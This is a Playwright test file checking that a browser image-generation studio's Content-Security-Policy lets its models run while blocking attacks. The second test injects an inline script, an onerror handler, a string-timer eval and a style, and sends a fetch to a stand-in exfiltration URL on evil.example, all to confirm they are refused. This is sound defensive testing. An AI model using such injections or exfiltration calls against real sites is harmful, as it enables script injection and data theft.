/**
 * The studio under its strict Content-Security-Policy (src/pwa/csp.ts), as `vite preview` serves it
 * (header) and as the build carries it (<meta>): the embedded model and a model from a local hub
 * load and generate with no violation, while an inline script, eval, an inline style, an inline
 * event handler and a request to a foreign host are refused, each with a securitypolicyviolation.
 */
import { expect, test } from '@playwright/test';
import fs from 'node:fs';
import path from 'node:path';
import { psnr, type FixtureRun } from '../src/engine/testing/fixtures';
import { startHubServer, type HubServer } from '../src/engine/testing/hubServer';
import { contentSecurityPolicy } from '../src/pwa/csp';
import { appState, generate, isolation, recordViolations, setup, violations } from './pwa-helpers';

const SD3_DIR = path.resolve('src/engine/families/sd3/__replica__');
const sd3Golden = JSON.parse(fs.readFileSync(path.join(SD3_DIR, 'sd3-golden.json'), 'utf8')) as { runs: FixtureRun[] };

test('the studio runs under the CSP header and <meta>: the embedded model loads and makes the PyTorch image, nothing is refused', async ({ page }, info) => {
  const { backend, run } = setup(info);
  const errors: string[] = [];
  page.on('pageerror', (e) => errors.push(e.message));
  await recordViolations(page);
  const res = await page.goto(`/?backend=${backend}`);
  const headers = res!.headers();
  expect(headers['content-security-policy']).toBe(contentSecurityPolicy('header'));
  expect(headers['cross-origin-embedder-policy']).toBe('require-corp');
  expect(headers['cross-origin-opener-policy']).toBe('same-origin');
  // the same policy travels in the page for hosts that cannot set headers (the first thing after <meta charset>)
  await expect(page.locator('head > meta[http-equiv="Content-Security-Policy"]')).toHaveAttribute('content', contentSecurityPolicy('meta'));
  expect(await page.evaluate(() => document.head.firstElementChild?.nextElementSibling?.getAttribute('http-equiv'))).toBe('Content-Security-Policy');

  await expect(appState(page)).toHaveAttribute('data-state', 'ready', { timeout: 300_000 });
  await expect(page.getByTestId('backend-badge')).toHaveAttribute('data-backend', backend);
  // the engine's worker got the policy from its own response (a worker does not inherit a <meta>)
  const workerPolicy = await page.evaluate(async () => {
    const url = performance.getEntriesByType('resource').map((e) => e.name).find((n) => /\/assets\/worker-[^/]*\.js$/.test(n));
    return url ? (await fetch(url)).headers.get('content-security-policy') : null;
  });
  expect(workerPolicy).toBe(contentSecurityPolicy('header'));
  expect(await isolation(page)).toEqual({ page: true, engine: true });
  const p = psnr(await generate(page, run), Buffer.from(run.rgb.b64, 'base64'));
  console.log(`[${backend}] under the CSP vs PyTorch: PSNR ${p.toFixed(1)} dB`);
  expect(p).toBeGreaterThanOrEqual(35);
  await expect(page.getByTestId('error-banner')).toHaveCount(0);
  expect(await violations(page)).toEqual([]);
  expect(errors).toEqual([]);
});

test('an inline script, a string timer (eval), an inline style or handler and a request to a foreign host are refused', async ({ page, context }) => {
  await recordViolations(page);
  const left: string[] = [];
  context.on('request', (r) => {
    if (new URL(r.url()).hostname.endsWith('evil.example')) left.push(r.url());
  });
  await page.goto('/');
  await expect(appState(page)).toBeAttached();

  const outcome = await page.evaluate(async () => {
    const w = window as unknown as Record<string, unknown>;
    const settle = () => new Promise((r) => setTimeout(r, 200));
    // 1. an injected inline <script> does not run
    const script = document.createElement('script');
    script.textContent = 'window.__pwned = "inline script"';
    document.head.append(script);
    // 2. nor does an inline event handler
    const img = document.createElement('img');
    img.setAttribute('onerror', 'window.__pwnedByHandler = true');
    img.src = 'data:,broken';
    document.body.append(img);
    // 3. nor does code from a string (a string timer: the page compiles it, as it would an eval;
    //    an eval typed here would be let through, because DevTools runs this function)
    setTimeout('window.__pwnedByEval = true', 0);
    // 4. an injected <style> is not applied
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid rgb(255, 0, 0) }';
    document.head.append(style);
    // 5. a request to a foreign host never leaves
    const foreign = await fetch('https://evil.example/steal?prompt=x').then(
      () => 'sent',
      (e: Error) => e.name,
    );
    await settle();
    return {
      pwned: w.__pwned ?? null,
      handler: w.__pwnedByHandler ?? null,
      evaled: w.__pwnedByEval ?? null,
      outline: getComputedStyle(document.body).outlineStyle,
      foreign,
    };
  });
  expect(outcome).toEqual({ pwned: null, handler: null, evaled: null, outline: 'none', foreign: 'TypeError' });
  const seen = await violations(page);
  expect(seen).toEqual(
    expect.arrayContaining([
      { directive: 'script-src-elem', blocked: 'inline' },
      { directive: 'script-src-attr', blocked: 'inline' },
      { directive: 'script-src', blocked: 'eval' },
      { directive: 'style-src-elem', blocked: 'inline' },
      { directive: 'connect-src', blocked: 'https://evil.example/steal?prompt=x' },
    ]),
  );
  expect(left).toEqual([]);
});

test.describe('a model from a local hub under the CSP', () => {
  let hub: HubServer;
  test.beforeAll(async () => {
    hub = await startHubServer({ 'webdit/sd3-tiny': path.join(SD3_DIR, 'sd3-tiny') });
  });
  test.afterAll(() => hub.close());

  test('the SD3 replica loads by repo id from http://127.0.0.1:PORT and makes the image PyTorch makes, nothing refused', async ({ page }, info) => {
    const backend = info.project.metadata.backend as 'webgpu' | 'wasm';
    const errors: string[] = [];
    page.on('pageerror', (e) => errors.push(e.message));
    await recordViolations(page);
    const res = await page.goto(`/?backend=${backend}&model=webdit/sd3-tiny&hub=${hub.url}`);
    expect(res!.headers()['content-security-policy']).toBe(contentSecurityPolicy('header'));
    await expect(appState(page)).toHaveAttribute('data-state', 'ready', { timeout: 300_000 });
    const run = sd3Golden.runs[0];
    const p = psnr(await generate(page, run), Buffer.from(run.rgb.b64, 'base64'));
    console.log(`[${backend}] SD3 replica from a local hub under the CSP vs PyTorch: PSNR ${p.toFixed(1)} dB`);
    expect(p).toBeGreaterThanOrEqual(45);
    expect(hub.requests.some((r) => r.startsWith('/api/models/webdit/sd3-tiny/tree/main'))).toBe(true);
    expect(hub.requests.some((r) => r.endsWith('.onnx'))).toBe(true);
    expect(await violations(page)).toEqual([]);
    expect(errors).toEqual([]);
  });
});
